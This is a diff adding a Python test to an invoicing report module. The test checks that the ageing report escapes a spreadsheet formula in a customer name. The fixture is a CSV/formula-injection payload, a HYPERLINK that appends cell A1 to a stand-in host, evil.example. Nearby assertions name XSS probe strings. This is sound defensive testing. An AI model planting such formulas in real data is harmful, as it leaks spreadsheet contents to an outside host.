@@ -7,6 +7,7 @@ import json
 import re
 import subprocess
 import sys
+import urllib.parse
 from decimal import Decimal
 from pathlib import Path
 from typing import Any
@@ -119,6 +120,14 @@ def test_names_stay_texts(books: kehu.Session) -> None:
         assert "<script>alert" not in text
         assert "<img" not in text
         assert "<b>3" not in text
+
+
+def test_a_spreadsheet_is_given_no_formula(books: kehu.Session) -> None:
+    make_customer(books, "C", '=HYPERLINK("http://evil.example/"&A1,"Acme")')
+    make_invoice(books, "C", "-4", "5.00 CNY", "2020-03-31")
+    page = urllib.parse.unquote(report.make(books, "ageing").html())
+    assert "\"'=HYPERLINK(" in page
+    assert "\"=HYPERLINK(" not in page.split('<script type="application/json"')[0]
 
 
 def test_a_browser_shows_it_offline(books: kehu.Session, tmp_path: Path) -> None:
